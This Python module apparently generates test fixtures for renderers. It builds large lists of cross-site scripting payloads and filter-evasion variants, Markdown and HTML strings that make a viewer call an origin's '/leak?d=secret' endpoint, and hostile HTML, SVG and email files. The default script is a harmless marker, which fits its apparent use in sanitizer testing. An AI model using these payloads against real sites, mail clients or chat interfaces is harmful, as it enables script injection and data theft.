"""Texts that try to run a script, or to make whoever shows them send a request: for every place that shows a document's,
a person's or a writer's words."""

import itertools

TAGS = ["img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "details open", "marquee",
        "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "div contenteditable autofocus", "a href=x",
        "video><source", "link rel=stylesheet href=x", "table background=x", "math", "button autofocus"]
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onstart"]

# How a handler is written: {h} its name, {c} the code.
QUOTINGS = ['{h}="{c}"', "{h}='{c}'", "{h}={c}", "{h}\n=\n{c}", "{h}\t=\"{c}\"", "/{h}=\"{c}\"", "{h}\x0c=\"{c}\"", "{h}=&quot;{c}&quot;"]


def _entities(code):
    return "".join(f"&#{ord(c)};" for c in code)


def _percent(text):
    return "".join(f"%{byte:02x}" for byte in text.encode())


def script_payloads(code="window.__ran=1"):
    """At least 500 texts, each of which runs `code` where it is taken for HTML, a link, a template or Markdown."""
    made = []
    for (number, (tag, handler)) in enumerate(itertools.product(TAGS, HANDLERS)):
        for quoting in QUOTINGS[number % 3::3]:
            name = handler if number % 2 else handler.upper().replace("N", "n")
            made.append(f"<{tag} {quoting.format(h=name, c=code)}>")
    schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;",
               "javascript&#58;", "&#106;avascript:", "\\javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,",
               "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:javascript:", "//%0ajavascript:", "javascript://%0a",
               "javascript:%0a", "\u0000javascript:", "javas\u200bcript:"]
    links = ["[a]({s}{c})", "[a](<{s}{c}>)", "![a]({s}{c})", "<{s}{c}>", "[a][b]\n\n[b]: {s}{c}", "[1]({s}{c})", "[a]({s}{c} \"t\")",
             "[![a](x)]({s}{c})", "<a href=\"{s}{c}\">a</a>", "[a]( {s}{c})", "{s}{c}", "[a](x \"\" onclick={c})"]
    for number, (scheme, link) in enumerate(itertools.product(schemes, links)):
        made.append(link.format(s=scheme, c=code if number % 3 else _percent(code)))
    whole = [
        "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<scr<script>ipt>{c}</script>", "<script\n>{c}</script\n>", "<script>{c}//", "<<script>{c}</script>",
        "\"><script>{c}</script>", "'><script>{c}</script>", "</textarea><script>{c}</script>", "</title><script>{c}</script>",
        "--><script>{c}</script>", "]]><script>{c}</script>", "</style><script>{c}</script>", "<svg><script>{c}</script></svg>",
        "<svg><script xlink:href='data:,{c}'/></svg>", "<svg><animate onbegin={c} attributeName=x>", "<svg><use href='data:image/svg+xml,<svg onload={c}>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror={c}>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
        "<template><script>{c}</script></template>", "<iframe srcdoc='<script>parent.{c}</script>'>", "<iframe src='javascript:parent.{c}'>",
        "<form action='javascript:{c}'><input type=submit>", "<isindex action=javascript:{c} type=image>", "<base href='javascript:{c}//'>",
        "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<object data='javascript:{c}'>", "<embed src='javascript:{c}'>",
        "<style>@import 'javascript:{c}';</style>", "<div style='background:url(javascript:{c})'>", "<div style='width:expression({c})'>",
        "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "#{{{c}}}", "<%= {c} %>", "{{% {c} %}}", "{{{{= {c} }}}}",
        "```html\n<script>{c}</script>\n```", "`<script>{c}</script>`", "    <script>{c}</script>", "> <script>{c}</script>",
        "| a |\n|---|\n| <img src=x onerror={c}> |", "* <img src=x onerror={c}>", "# <img src=x onerror={c}>", "~~<img src=x onerror={c}>~~",
        "**<img src=x onerror={c}>**", "[<img src=x onerror={c}>](x)", "![<img src=x onerror={c}>](x)", "```\"><img src=x onerror={c}>\nx\n```",
        "```javascript:{c}\nx\n```", "```<img/src=x/onerror={c}>\nx\n```", "[^1]\n\n[^1]: <img src=x onerror={c}>", "$$\\href{{javascript:{c}}}{{x}}$$",
        "$\\url{{javascript:{c}}}$", "```mermaid\ngraph TD;A[<img src=x onerror={c}>]-->B;click A href \"javascript:{c}\"\n```",
        "<details><summary>x</summary><script>{c}</script></details>", "\u2028<script>{c}</script>", "\ufeff<script>{c}</script>",
        "<img src=\"x` `<script>{c}</script>\"` `>", "<a href=\"\\x01javascript:{c}\">x</a>", "<img src=x:x onerror={c}//",
        "&lt;script&gt;{c}&lt;/script&gt;", "&amp;lt;script&amp;gt;{c}", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "%3Cscript%3E{c}%3C/script%3E",
        "+ADw-script+AD4-{c}+ADw-/script+AD4-", "<script src=data:,{c}></script>", "<link rel=import href='data:text/html,<script>{c}</script>'>",
        "<x onclick={c} style=position:fixed;inset:0>x", "<dialog open onclose={c}><form method=dialog><button autofocus>",
        "<input onauxclick={c}>", "<svg><a xlink:href='javascript:{c}'><text y=20>x", "<svg><set attributeName=onmouseover to={c}>",
        "[1]<script>{c}</script>[2]", "[1](x)<img src=x onerror={c}>", "【1】<img src=x onerror={c}>", "__proto__", "constructor", "toString",
    ]
    made += [form.format(c=code) for form in whole]
    made += [form.format(c=_entities(code)) for form in whole if "onerror" in form or "href" in form]
    return list(dict.fromkeys(made))


def request_payloads(origin):
    """At least 300 texts, each of which makes a viewer that follows HTML, Markdown or style sheets ask `origin`."""
    address = f"{origin}/leak?d=secret"
    bare = address.removeprefix("http:")
    made = []
    elements = [
        "<img src={u}>", "<img srcset='{u} 1x'>", "<picture><source srcset={u}><img></picture>", "<video src={u} autoplay>", "<video poster={u}>",
        "<audio src={u} autoplay>", "<track src={u}>", "<iframe src={u}></iframe>", "<object data={u}></object>", "<embed src={u}>", "<script src={u}></script>",
        "<link rel=stylesheet href={u}>", "<link rel=prefetch href={u}>", "<link rel=preload as=image href={u}>", "<link rel=dns-prefetch href={u}>",
        "<link rel=preconnect href={u}>", "<link rel=icon href={u}>", "<link rel=manifest href={u}>", "<link rel=modulepreload href={u}>",
        "<style>@import url({u});</style>", "<style>body{{background:url({u})}}</style>", "<div style='background:url({u})'>x</div>",
        "<style>@font-face{{font-family:a;src:url({u})}}*{{font-family:a}}</style>", "<input type=image src={u}>", "<body background={u}>", "<table background={u}>",
        "<meta http-equiv=refresh content='0;url={u}'>", "<base href={u}>", "<form action={u}><input autofocus onfocus=form.submit()></form>",
        "<svg><image href={u}></svg>", "<svg><use href='{u}#x'></svg>", "<svg><feImage href={u}></svg>", "<svg><foreignObject><img src={u}></foreignObject></svg>",
        "<a href={u} ping={u}>x</a>", "<portal src={u}></portal>", "<frameset><frame src={u}></frameset>", "<applet code={u}></applet>", "<bgsound src={u}>",
        "<image src={u}>", "<isindex src={u} type=image>", "<xml src={u}>", "<?xml-stylesheet href='{u}'?>", "<!DOCTYPE x SYSTEM '{u}'>", "<details open><img src={u}></details>",
        "<iframe srcdoc=\"<img src={u}>\"></iframe>", "<math><maction actiontype=statusline xlink:href={u}>x", "<video><source src={u}></video>", "<area href={u} ping={u}>",
        "<button formaction={u} autofocus>", "<template><img src={u}></template>", "<noscript><img src={u}></noscript>", "<marquee><img src={u}></marquee>",
    ]
    markdown = [
        "![x]({u})", "![x](<{u}>)", "![x]({u} \"t\")", "![x][r]\n\n[r]: {u}", "![r]\n\n[r]: {u}", "[![x]({u})](x)", "[x]({u})", "[x][r]\n\n[r]: <{u}>", "<{u}>", "{u}",
        "!\\[x]({u})", "![x]( {u} )", "![]({u})", "![x]({u}#a=b)", "| a |\n|---|\n| ![x]({u}) |", "* ![x]({u})", "> ![x]({u})", "# ![x]({u})", "**![x]({u})**",
        "[1]({u})", "![1]({u})", "[1]: {u}", "[^1]: ![x]({u})", "```\n![x]({u})\n```", "`![x]({u})`", "```mermaid\nclick A href \"{u}\"\n```", "$\\includegraphics{{{u}}}$",
        "[x](javascript:fetch('{u}'))", "![x](data:text/html,<img src={u}>)", "![x](data:image/svg+xml,<svg><image href='{u}'/></svg>)", "@[x]({u})", "![[{u}]]",
        "{{{{#include {u}}}}}", "\\![x]({u})", "![x](\n{u}\n)", "![&#x78;]({u})", "[x](<{u}> 't')", "[![][r]][r]\n\n[r]: {u}", "<details><summary>![x]({u})</summary></details>",
    ]
    for form in elements + markdown:
        for shown in (address, bare, address.replace("http", "HTTP", 1)):
            made.append(form.format(u=shown))
    made += [form.format(u=f"\"{address}\"").upper().replace(address.upper(), address) for form in elements]
    return list(dict.fromkeys(made))


def hostile_files(origin, code="window.__ran=1"):
    """50 files (name, bytes) of the kinds that a browser would run if it were handed them: HTML, SVG, mail."""
    scripts = script_payloads(code)
    requests = request_payloads(origin)
    files = []
    for number in range(20):
        body = "\n".join(scripts[number * 20:number * 20 + 20] + requests[number * 8:number * 8 + 8])
        files.append((f"page{number}.html", f"<!doctype html><html><head><title>Page {number}</title></head><body><p>Words of page {number}.</p>{body}</body></html>"))
    for number in range(15):
        files.append((f"picture{number}.svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload='{code}'>"
                      f"<title>Picture {number}</title><script>{code}</script><image href='{origin}/leak?{number}'/><text>Words of picture {number}.</text></svg>"))
    for number in range(15):
        html = f"<html><body><p>Words of mail {number}.</p>{scripts[number]}<img src='{origin}/leak?{number}'></body></html>"
        files.append((f"mail{number}.eml", f"From: a@example.org\r\nTo: b@example.org\r\nSubject: Mail {number} <script>{code}</script>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\n"
                      f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"))
    return [(name, text.encode()) for name, text in files]
